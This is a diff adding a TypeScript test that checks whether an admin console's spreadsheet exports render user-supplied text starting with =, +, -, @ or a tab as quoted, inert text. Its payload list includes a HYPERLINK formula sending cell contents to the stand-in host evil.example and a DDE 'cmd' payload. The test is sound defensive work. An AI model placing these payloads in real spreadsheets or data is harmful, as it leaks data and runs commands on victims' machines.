@@ -1,0 +1,115 @@
+import ExcelJS from 'exceljs';
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { newUser } from '../modules/users/system-fixtures.ts';
+import { users } from '../modules/users/users.tables.ts';
+import { orderFixtures } from '../modules/order/order.fixtures.ts';
+import { shopFixtures } from '../modules/shop/shop.fixtures.ts';
+import { wmsFixtures } from '../modules/wms/wms.fixtures.ts';
+import { exportPages } from '../shared/export-registry.ts';
+import { buildTestApp, type TestApp } from '../test/build-app.ts';
+
+/**
+ * Spreadsheet formula injection, for every registered export: text that a spreadsheet would run as a
+ * formula (`= + - @`, tab, carriage return) is put where each export shows it — through the console's own
+ * calls, and through what an attacker who is not even signed in controls (the account name and browser
+ * of a failed sign-in, which the sign-in log exports). Every file must hold it as inert text.
+ * A new export source fails this test until a line here puts hostile text into it.
+ */
+
+const PAYLOADS = {
+  loginId: '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+  userAgent: "=cmd|' /C calc'!A0",
+  operator: '=2+2',
+  user: '+SUM(1,2)',
+  article: '@SUM(1+1)*cmd',
+  warehouse: '-2+3+cmd',
+  reason: '=1+1',
+  shop: '\t=1+1',
+  order: '=SUM(A1:A9)',
+};
+
+let t: TestApp;
+let admin: string;
+beforeAll(async () => {
+  t = await buildTestApp();
+  admin = await t.login();
+});
+afterAll(() => t.close());
+
+async function seedHostileText() {
+  const ok = async (path: string, body: object) => {
+    const res = await t.post(path, body, { token: admin });
+    if (res.body.code !== 200) throw new Error(`${path}: ${res.body.message}`);
+    return res.body.data;
+  };
+  await t.app.inject({
+    method: 'POST',
+    url: '/api/user/login',
+    payload: { loginId: PAYLOADS.loginId, password: 'whatever-guess' },
+    headers: { 'user-agent': PAYLOADS.userAgent },
+  });
+  // Every write below is logged under this operator name (the operation log export).
+  await t.db.update(users).set({ name: PAYLOADS.operator }).where(eq(users.loginId, 'admin'));
+  await ok('/user/insert', newUser({ name: PAYLOADS.user, loginId: 'formula1' }));
+  await ok('/content/category/add', { name: '分类', typeCode: 'F1', describe: '描述', status: 1 });
+  await ok('/content/article/add', {
+    title: PAYLOADS.article,
+    typeCode: 'F1',
+    retGradeList: 'A',
+    describe: 'd',
+    status: 1,
+    content: '<p>x</p>',
+  });
+  const wms = wmsFixtures(t, () => admin);
+  await wms.seedChannels();
+  const { warehouseCode } = await wms.warehouse({ warehouseName: PAYLOADS.warehouse });
+  const sku = await wms.stock(warehouseCode, 10);
+  const inv = await wms.inv(warehouseCode, sku);
+  await ok('/wms/inv/adjust', { id: inv.id, delta: 1, reason: PAYLOADS.reason });
+  const shops = shopFixtures(t, () => admin);
+  const sp = await shops.sp();
+  const { retCode } = await shops.shop({ spCode: sp.spCode, retName: PAYLOADS.shop });
+  // A telesales order (both order exports) of that shop, with a remark of its own.
+  const orders = orderFixtures(t, () => admin);
+  await orders.setup();
+  const { code } = await orders.sku(10);
+  await orders.order(retCode, [{ skuCode: code, quantity: 1 }], { remark: PAYLOADS.order });
+}
+
+async function exported(page: string) {
+  const created = await t.post('/export/create', { resource: page, query: {} }, { token: admin });
+  if (created.body.code !== 200) throw new Error(`${page}: ${created.body.message}`);
+  const id = created.body.data.id as string;
+  let task: { status: string } | undefined;
+  for (let i = 0; i < 400 && !['done', 'failed'].includes(task?.status ?? ''); i++) {
+    await new Promise((r) => setTimeout(r, 50));
+    task = (await t.get('/export/queryList', {}, { token: admin })).body.data.find((r: { id: string }) => r.id === id);
+  }
+  if (task?.status !== 'done') throw new Error(`${page}: export ${task?.status}`);
+  const file = await t.app.inject({ method: 'GET', url: `/api/export/download/${id}`, headers: { authorization: `Bearer ${admin}` } });
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
+  const cells: ExcelJS.Cell[] = [];
+  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => cells.push(c))));
+  return cells;
+}
+
+describe('spreadsheet formula injection', () => {
+  it('every export holds formula-looking text as inert, quoted text', async () => {
+    await seedHostileText();
+    const pages = exportPages();
+    expect(pages.length).toBeGreaterThanOrEqual(7);
+    const wrong: string[] = [];
+    for (const page of pages) {
+      const cells = await exported(page);
+      const live = cells.filter(
+        (c) => c.type === ExcelJS.ValueType.Formula || (typeof c.value === 'string' && /^[=+\-@\t\r]/.test(c.value)),
+      );
+      for (const c of live) wrong.push(`${page} ${c.address}: ${JSON.stringify(c.value)}`);
+      const quoted = cells.filter((c) => typeof c.value === 'string' && /^'[=+\-@\t\r]/.test(c.value));
+      if (!quoted.length) wrong.push(`${page}: no hostile text reached this export (add a line to seedHostileText)`);
+    }
+    expect(wrong).toEqual([]);
+  }, 120_000);
+});
